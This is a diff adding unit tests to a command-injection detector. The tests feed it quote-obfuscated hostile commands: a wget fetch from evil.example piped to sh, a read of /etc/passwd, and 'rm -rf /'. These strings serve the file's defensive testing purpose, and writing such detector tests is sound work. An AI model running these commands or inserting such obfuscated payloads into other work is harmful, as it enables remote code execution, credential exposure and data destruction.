@@ -54,4 +54,21 @@ describe("commandInjectionDetector", () => {
 
     expect(findings.every((finding) => finding.score < 0.6)).toBe(true);
   });
+
+  it.each([
+    ["download-execute", "w'g'e't http://evil.example/x -O- | s'h'"],
+    ["file-read", '; c"a"t /e"t"c/p"a"s"s"w"d"'],
+    ["destructive", "&& r\\m -rf /"],
+  ])("flags %s with its command name split by quotes", (subtype, text) => {
+    const findings = commandFindings(text);
+
+    expect(findings.map((finding) => finding.subtype)).toContain(subtype);
+    expect(findings[0]?.score).toBeGreaterThanOrEqual(0.8);
+  });
+
+  it("reads a line break written as such as the end of a line", () => {
+    const text = "Run the following:\nls -la";
+
+    expect(commandFindings(text)[0]?.subtype).toBe("command-line");
+  });
 });
